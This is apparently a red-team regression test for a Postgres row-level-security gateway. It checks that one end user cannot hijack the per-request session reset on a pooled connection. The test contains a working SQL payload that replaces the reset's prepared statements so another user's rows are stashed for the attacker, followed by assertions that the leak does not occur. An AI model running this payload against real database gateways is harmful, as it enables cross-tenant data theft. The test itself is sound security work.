// Red team (red16): the session reset after each request runs as prepared statements named
// hbagate_reset_0…6, in the same namespace as statements prepared in SQL. PREPARE, DEALLOCATE
// and EXECUTE are refused as a statement's first keyword, but a DO block can EXECUTE them. An
// end user holding a valid token of the role replaces the reset's statements with ones of its
// own (the last one answering "nothing prepared in SQL", so its replacements are never
// deallocated): the reset then undoes nothing, and runs the end user's SQL after every later
// request on that connection — under the next caller's claims. Promised: two end users of one
// role on one pooled connection each see only their own rows; nothing one request leaves on the
// session reaches the next.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { endUserApp, startTodos, type Todos } from "../harness/todos-rls.ts";

describe("red16: an end user replaces the session reset's prepared statements", () => {
  let todos: Todos;
  before(async () => {
    todos = await startTodos([["bob", "bob-secret-1"], ["bob", "bob-secret-2"], ["mallory", "m1"]]);
  });
  after(() => todos?.stop());

  test("mallory's SQL never runs under bob's claims, and bob's rows never reach mallory", async (t) => {
    // One connection: every request below runs on the same server session (HBAGATE_POOL_MAX=1).
    const { pools, run: post } = endUserApp(todos);
    t.after(() => pools.close());
    const run = (sub: string, query: string) => post(sub, { query });

    // A first request: the reset's statements are prepared behind it.
    const warm = await run("mallory", "select item from todos");
    assert.deepEqual(warm.body.rows, [{ item: "m1" }], JSON.stringify(warm.body));

    // Mallory, with a valid token of her own, replaces RESET ALL with a statement that stashes what
    // the current claims can read, and every other statement the reset named with one that does
    // nothing.
    const hijack = await run(
      "mallory",
      `do $do$ declare n text; begin
         execute 'deallocate hbagate_reset_0';
         execute $p$prepare hbagate_reset_0 as select pg_catalog.set_config('red16.stash', coalesce(pg_catalog.current_setting('red16.stash', true), '') || coalesce((select pg_catalog.string_agg(item, ',') from public.todos), '') || ';', false)$p$;
         for n in select name from pg_prepared_statements where not from_sql and name like 'hbagate\\_reset\\_%' and name <> 'hbagate_reset_0' loop
           execute format('deallocate %I', n);
           execute format('prepare %I as select true', n);
         end loop;
       end $do$`,
    );
    // (Today it runs: 200. A fix may refuse it; what matters is what bob's request leaves behind.)
    void hijack;

    // Bob makes an ordinary request on the one pooled connection.
    const bob = await run("bob", "select item from todos order by item");
    assert.deepEqual(bob.body.rows, [{ item: "bob-secret-1" }, { item: "bob-secret-2" }], JSON.stringify(bob.body));

    // Mallory asks what the reset left behind.
    const loot = await run("mallory", "select pg_backend_pid() as pid, current_setting('red16.stash', true) as stash, (select count(*) from pg_prepared_statements where name like 'hbagate_reset_%' and from_sql)::int as replaced");
    assert.equal(loot.status, 200, JSON.stringify(loot.body));
    const row = loot.body.rows[0] as { stash: string | null; replaced: number };
    assert.ok(!(row.stash ?? "").includes("bob-secret"), `bob's rows reached mallory through the reset: stash=${JSON.stringify(row.stash)}`);
    assert.equal(row.replaced, 0, "the reset's own statements were replaced by SQL of an end user's");
  });
});
